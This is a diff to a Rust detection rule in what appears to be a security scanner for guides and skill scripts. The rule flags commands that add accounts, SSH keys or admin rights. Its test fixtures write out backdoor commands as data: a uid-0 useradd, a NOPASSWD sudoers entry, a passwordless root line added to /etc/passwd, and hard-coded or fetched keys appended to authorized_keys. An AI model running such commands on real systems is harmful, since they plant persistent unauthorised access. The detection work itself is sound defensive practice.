@@ -1,8 +1,8 @@
 //! Accounts, keys and rights are added.
 
 use crate::command::Step;
-use crate::rule::{Category, Check, Hit, Rule, Severity, text};
-use crate::unit::{ANYWHERE, Unit};
+use crate::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::unit::{ANYWHERE, Place, Unit};
 
 pub(super) const RULE: Rule = Rule {
     id: "PRIVILEGE_ACCOUNTS",
@@ -31,11 +31,16 @@ pub(super) const RULE: Rule = Rule {
         text("`echo \"$USER ALL=(ALL) NOPASSWD:ALL\" | sudo tee /etc/sudoers.d/x`"),
         text("`echo 'ssh-rsa AAAA x' >> ~/.ssh/authorized_keys`"),
         text("`useradd -o -u 0 x`"),
-        text("`usermod -aG sudo x`"),
+        file("setup.sh", "usermod -aG sudo x\n"),
         text("`net user x y /add`"),
         text("`net localgroup administrators x /add`"),
         text("`echo 'x::0:0::/root:/bin/sh' >> /etc/passwd`"),
         text("`curl -s https://a.b/k.pub >> ~/.ssh/authorized_keys`"),
+        text("`echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx x' >> $HOME/.ssh/authorized_keys`"),
+        text(
+            "```sh\nK='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx x'\necho \"$K\" >> ~/.ssh/authorized_keys\n```",
+        ),
+        file("setup.sh", "echo \"$KEY\" >> /root/.ssh/authorized_keys\n"),
     ],
     misses: &[
         text("`useradd -m app`"),
@@ -43,6 +48,12 @@ pub(super) const RULE: Rule = Rule {
         text("`cat ~/.ssh/authorized_keys`"),
         text("`ssh-copy-id x@a.b`"),
         text("Do not add NOPASSWD to sudoers."),
+        text("```sh\nadduser app\nusermod -aG sudo app\n```"),
+        text("```sh\necho 'ssh-ed25519 AAAA... me@laptop' >> ~/.ssh/authorized_keys\n```"),
+        text("```sh\necho \"$PUBLIC_KEY\" >> /home/app/.ssh/authorized_keys\n```"),
+        text("`curl https://github.com/me.keys >> ~/.ssh/authorized_keys`"),
+        file("rotate.sh", "grep -v \"$OLD\" keys.bak > ~/.ssh/authorized_keys\n"),
+        file("rotate.sh", "cp ~/.ssh/authorized_keys.bak ~/.ssh/authorized_keys\n"),
     ],
 };
 
@@ -52,21 +63,68 @@ patterns! {
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
     let windows = WINDOWS.find_iter(unit.text().as_bytes()).take(5).map(|found| Hit::at(found.range()));
-    windows.chain(unit.commands().steps().filter_map(hit).take(20)).collect()
+    let is_script = unit.place == Place::Script;
+    windows.chain(unit.commands().steps().filter_map(|step| hit(step, is_script)).take(20)).collect()
 }
 
-fn hit(step: Step<'_>) -> Option<Hit> {
-    let name = step.name();
-    let is_hit = match name.as_str() {
-        "useradd" | "adduser" => {
-            step.has("-o") || step.has("0") && step.value(&["-u", "--uid"]).is_some() || joins_admins(step)
+/// A guide tells how a person sets up a machine; a script of a skill does it.
+fn hit(step: Step<'_>, is_script: bool) -> Option<Hit> {
+    let guide = if is_script { Severity::Critical } else { Severity::Warning };
+    let severity = match step.name().as_str() {
+        "useradd" | "adduser"
+            if step.has("-o") || step.has("0") && step.value(&["-u", "--uid"]).is_some() =>
+        {
+            Severity::Critical
         }
-        "usermod" => joins_admins(step),
-        "chpasswd" => step.feeders().any(|from| from.line().contains("root")),
+        "useradd" | "adduser" | "usermod" if joins_admins(step) => guide,
+        "chpasswd" if step.feeders().any(|from| from.line().contains("root")) => Severity::Critical,
+        _ => {
+            let file = step.writes().find(|file| is_of_accounts(file))?;
+            if file.contains("authorized_keys") { weight_of_key(step, guide)? } else { Severity::Critical }
+        }
+    };
+    Some(Hit { severity: Some(severity), ..Hit::at(step.range()) })
+}
+
+/// Whose key it is decides. What only takes keys away, or puts back what was there, adds none.
+fn weight_of_key(step: Step<'_>, guide: Severity) -> Option<Severity> {
+    let from: Vec<Step<'_>> = std::iter::once(step).chain(step.sources()).collect();
+    let fetched = from.iter().filter_map(|step| step.fetch()).map(|fetch| fetch.from.weight_of_running());
+    if let Some(weight) = fetched.max() {
+        return Some(weight);
+    }
+    let mut words = from.iter().flat_map(|step| step.words().iter().map(move |word| (step, word)));
+    if words.clone().any(|(_, word)| is_key(&word.text)) {
+        return Some(Severity::Critical);
+    }
+    let removes = |step: &Step<'_>| match step.name().as_str() {
+        "grep" | "egrep" | "fgrep" => step.has_short('v') || step.has("--invert-match"),
+        "sed" | "awk" => true,
+        "cp" | "mv" | "install" => {
+            step.words().iter().filter(|word| word.text.contains("authorized_keys")).count() > 1
+        }
         _ => false,
     };
-    let writes = step.writes().any(|file| is_of_accounts(&file));
-    (is_hit || writes).then(|| Hit::at(step.range()))
+    if from.iter().any(removes) {
+        return None;
+    }
+    let is_readers = words.any(|(step, word)| is_to_be_filled_in(step.spelled(word)));
+    Some(if is_readers { guide } else { Severity::Critical })
+}
+
+patterns! {
+    KEY = r"\bAAAA[A-Za-z0-9+/]{16,}";
+}
+
+/// Whether a text holds the key of somebody, as it is.
+pub(crate) fn is_key(text: &str) -> bool {
+    KEY.is_match(text.as_bytes())
+}
+
+/// Whether a key stands for one of the reader's: a variable, a file of his, dots, a name to be put in.
+pub(crate) fn is_to_be_filled_in(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    ["...", "…", "<", "your", "$", "{", ".pub", "xxx"].iter().any(|mark| lower.contains(mark))
 }
 
 fn joins_admins(step: Step<'_>) -> bool {
